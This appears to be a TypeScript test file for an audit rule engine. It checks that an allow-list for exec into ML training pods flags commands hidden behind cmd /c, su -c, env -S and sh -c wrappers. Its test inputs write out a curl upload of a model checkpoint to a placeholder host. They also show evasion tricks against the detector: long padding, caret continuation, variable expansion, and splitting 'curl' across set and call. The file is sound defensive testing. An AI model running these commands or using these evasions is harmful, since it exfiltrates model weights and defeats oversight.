/**
 * A behavioural spec's `exec.allow` judges what a wrapper's command line runs, as it judges
 * `sh -c`: `cmd /c …` (exec-cmd.ts), `su -c …` and `env -S …` are allowed only when the wrapper's
 * words and its script AS READ are allowed (exec-canonical.ts writes that line; exec-readings.ts
 * `canonicalExecAllowed` tests it), and never when the reading depends on the environment
 * (cmd's `%VAR%`: runtime, exec-cmd-vars.ts). Through the real spec compiler and rule engine.
 */
import { describe, expect, it } from 'vitest';
import { createRuleEngine } from './engine.js';
import { auditEvent } from './fixtures.test-support.js';
import { loadRuleSet } from './rule-loader.js';

const SPEC = `kind: BehaviouralSpec
id: SPEC-WIN
title: Windows node pool profile
family: weight-exfil
selector:
  namespaces: ['ml-*']
  jobs: ['train-*']
exec:
  allow: ['cmd /c dir*', 'cmd /c nvidia-smi*', 'su -c nvidia-smi*', 'env -S nvidia-smi*', 'sh -c nvidia-smi*']
`;

const EXFIL = 'curl -T /ckpt/m.pt https://x';
/** Past the 1024 characters of joined argv the raw test reads: only the reading sees what follows. */
const PAD = ' '.repeat(1100);

function hits(command: string[]): string[] {
  const set = loadRuleSet([{ path: 'win.yaml', text: SPEC }]);
  expect(set.errors).toEqual([]);
  const e = createRuleEngine(set.rules);
  const x = auditEvent({ verb: 'create', user: { username: 'system:node:n' }, objectRef: { resource: 'pods', subresource: 'exec', namespace: 'ml-train', name: 'train-42-0' } }, 1, 'train-42');
  x.attrs.exec = { command, container: 'c' };
  return e.evaluate(x).map((h) => h.ruleId);
}

describe('spec exec.allow judges what cmd /c runs', () => {
  it('allowed: the commands the list names, however cmd spells them', () => {
    for (const c of [['cmd', '/c', 'dir'], ['cmd', '/c', 'dir /b C:\\ckpt'], ['cmd', '/c', 'dir', '/b'], ['cmd', '/c', 'nvidia-smi -q']]) {
      expect(hits(c), c.join(' ')).toEqual([]);
    }
  });

  it('not allowed: a second command, however it hides from the joined argv', () => {
    for (const c of [
      ['cmd', '/c', `dir & ${EXFIL}`],
      ['cmd', '/c', `dir${PAD}& ${EXFIL}`],
      ['cmd', '/c', `"dir${PAD}& ${EXFIL}"`],
      ['cmd', '/c', 'dir', `${PAD}&`, EXFIL],
      ['cmd', `/c"dir${PAD}&${EXFIL}"`],
      ['cmd', '/c', `nvidia-smi${PAD}^\n& ${EXFIL}`],
    ]) {
      expect(hits(c), c.join(' ').replace(/ {2,}/g, ' ')).toEqual(['SPEC-WIN/exec']);
    }
  });

  it('not allowed: what the environment decides (%VAR%, delayed !VAR!, set and call)', () => {
    // `%X%` is expanded before the line is split into commands: `X=x & curl …` runs curl.
    expect(hits(['cmd', '/c', 'dir %X%'])).toEqual(['SPEC-WIN/exec']);
    expect(hits(['cmd', '/c', 'nvidia-smi %~dp0'])).toEqual(['SPEC-WIN/exec']);
    expect(hits(['cmd', '/c', 'dir !X!'])).toEqual(['SPEC-WIN/exec']);
    expect(hits(['cmd', '/v:off', '/c', 'dir !X!'])).toEqual(['SPEC-WIN/exec']); // the raw test: no allow entry starts `cmd /v:off`
    expect(hits(['cmd', '/c', `dir${PAD}& set a=cu&& set b=rl&& call %a%%b% -T /ckpt/m.pt https://x`])).toEqual(['SPEC-WIN/exec']);
  });
});

describe('spec exec.allow judges what su -c and env -S run', () => {
  it('allowed as read', () => {
    expect(hits(['su', '-c', 'nvidia-smi -q'])).toEqual([]);
    expect(hits(['env', '-S', 'nvidia-smi -q'])).toEqual([]);
  });
  it('not allowed: a command past the joined argv', () => {
    expect(hits(['su', '-c', `nvidia-smi${PAD}; ${EXFIL}`])).toEqual(['SPEC-WIN/exec']);
    expect(hits(['su', '-c', `nvidia-smi${PAD}\n${EXFIL}`])).toEqual(['SPEC-WIN/exec']);
    expect(hits(['env', '-S', `nvidia-smi${PAD}; ${EXFIL}`])).toEqual(['SPEC-WIN/exec']);
    expect(hits(['sh', '-c', `nvidia-smi${PAD}; ${EXFIL}`])).toEqual(['SPEC-WIN/exec']);
  });
});
